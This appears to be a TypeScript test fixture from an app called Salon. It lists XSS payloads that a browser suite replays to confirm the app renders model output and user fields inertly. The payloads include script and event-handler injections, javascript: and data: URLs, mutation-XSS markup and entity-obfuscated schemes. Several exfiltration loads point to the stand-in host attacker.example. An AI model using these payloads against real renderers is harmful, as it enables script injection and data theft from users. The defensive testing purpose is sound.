// Payloads a hostile model, user or admin might get Salon to render: each one, if it ran, would
// set `window.__xss` (or open a dialog), and each one that loads something points at
// https://attacker.example, which no page of Salon may ever contact. The browser suite
// (xss.test.ts) replays them as model output, as user text, as a conversation title and as a
// folder name.

/** The origin payloads try to reach; any request to it is a leak. */
export const attackerOrigin = 'https://attacker.example';

/** One payload, named after the trick it tries. */
export interface XssPayload {
  name: string;
  text: string;
}

const leak = (tag: string) => `${attackerOrigin}/?q=secret-${tag}`;

/** The whole corpus, grouped by trick. */
export const xssPayloads: XssPayload[] = [
  // Raw script and event handlers.
  { name: 'script', text: '<script>window.__xss = "script"; alert("script")</script>' },
  { name: 'img onerror', text: `<img src=x onerror="window.__xss='img'; alert('img')">` },
  { name: 'body onload', text: `<body onload="window.__xss='body'">` },
  {
    name: 'details ontoggle',
    text: `<details open ontoggle="window.__xss='details'"><summary>s</summary></details>`,
  },
  { name: 'input autofocus', text: `<input autofocus onfocus="window.__xss='input'">` },
  { name: 'div onmouseover', text: `<div onmouseover="window.__xss='div'">hover bait</div>` },
  // Script URLs in links and images, HTML and Markdown.
  { name: 'html javascript: link', text: `<a href="javascript:window.__xss='a'">raw anchor</a>` },
  { name: 'md javascript: link', text: "[js link](javascript:window.__xss='md-link')" },
  { name: 'md mixed-case scheme', text: '[mixed case](JaVaScRiPt:window.__xss=1)' },
  { name: 'md tab in scheme', text: '[tab](java\tscript:window.__xss=1)' },
  { name: 'md data: link', text: '[data link](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)' },
  {
    name: 'md data: base64',
    text: '[data b64](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  { name: 'md vbscript: link', text: '[vbscript link](vbscript:msgbox(1))' },
  { name: 'md javascript: image', text: '![js image](javascript:window.__xss=1)' },
  {
    name: 'md data: svg image',
    text: '![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  },
  { name: 'html data: image', text: `<img src="data:image/svg+xml,<svg onload=alert(1)>">` },
  { name: 'reference link', text: '[ref link][js]\n\n[js]: javascript:window.__xss="ref"' },
  // SVG and frames.
  { name: 'svg onload', text: `<svg onload="window.__xss='svg'"><circle r="10" /></svg>` },
  {
    name: 'svg animate href',
    text: `<svg><a><animate attributeName="href" values="javascript:window.__xss=1"/><text y="20">svg link</text></a></svg>`,
  },
  {
    name: 'iframe srcdoc',
    text: `<iframe srcdoc="<script>parent.__xss='srcdoc'</script>"></iframe>`,
  },
  { name: 'iframe javascript:', text: `<iframe src="javascript:parent.__xss='iframe'"></iframe>` },
  {
    name: 'object and embed',
    text: `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  },
  {
    name: 'form action',
    text: `<form action="javascript:alert(1)"><button>submit</button></form>`,
  },
  { name: 'meta refresh', text: `<meta http-equiv="refresh" content="0;url=${leak('meta')}">` },
  { name: 'base href', text: `<base href="${attackerOrigin}/">` },
  // Mutation XSS: markup a sanitizer parses one way and the browser re-parses another.
  {
    name: 'mxss noscript',
    text: `<noscript><p title="</noscript><img src=x onerror=window.__xss='mxss-noscript'>">`,
  },
  {
    name: 'mxss style',
    text: `<svg></p><style><a id="</style><img src=1 onerror=window.__xss='mxss-style'>">`,
  },
  {
    name: 'mxss template',
    text: `<template><img src=x onerror=window.__xss='mxss-template'></template>`,
  },
  {
    name: 'mxss math',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=window.__xss='mxss-math'&gt;">`,
  },
  // Exfiltration through loads: images, styles, links.
  { name: 'md image exfiltration', text: `![x](${leak('md-image')})` },
  { name: 'md image by reference', text: `![x][leak]\n\n[leak]: ${leak('ref-image')}` },
  { name: 'html image exfiltration', text: `<img src="${leak('html-image')}">` },
  { name: 'style background', text: `<style>body { background: url("${leak('style')}") }</style>` },
  {
    name: 'inline style url',
    text: `<p style="background:url(${leak('inline-style')})">styled</p>`,
  },
  { name: 'stylesheet link', text: `<link rel="stylesheet" href="${leak('link')}">` },
  // HTML entities and autolinks.
  { name: 'entity-encoded script', text: '&lt;script&gt;window.__xss="entity"&lt;/script&gt;' },
  { name: 'entity in scheme', text: '[entity](&#106;avascript:window.__xss=1)' },
  { name: 'hex entity in scheme', text: '[hex entity](&#x6A;&#x61;vascript:window.__xss=1)' },
  { name: 'autolink javascript:', text: '<javascript:window.__xss=1>' },
  { name: 'autolink https', text: `<${leak('autolink')}>` },
  { name: 'bare url', text: `${leak('bare')}.png` },
  // KaTeX commands that make links need `trust`: they must stay inert.
  { name: 'katex href', text: '$\\href{javascript:window.__xss=1}{math link}$' },
];

/** Every payload as one Markdown document, each under its name, ending with a marker. */
export function xssCorpusMarkdown(): string {
  return [
    ...xssPayloads.flatMap((payload) => [`**${payload.name}**`, '', payload.text, '']),
    'END OF CORPUS',
  ].join('\n');
}

/** Short payloads for one-line fields (titles, folder names: at most 100 characters). */
export const xssOneLiners: string[] = [
  `<img src=x onerror="window.__xss='one-img'">`,
  `<svg onload="window.__xss='one-svg'">`,
  `<script>window.__xss='one-script'</script>`,
  `"><img src=x onerror=alert(1)>`,
  `javascript:window.__xss='one-js'`,
  `![x](${attackerOrigin}/?q=t)`,
  `&lt;b&gt;entity&lt;/b&gt; &#60;i&#62;`,
];
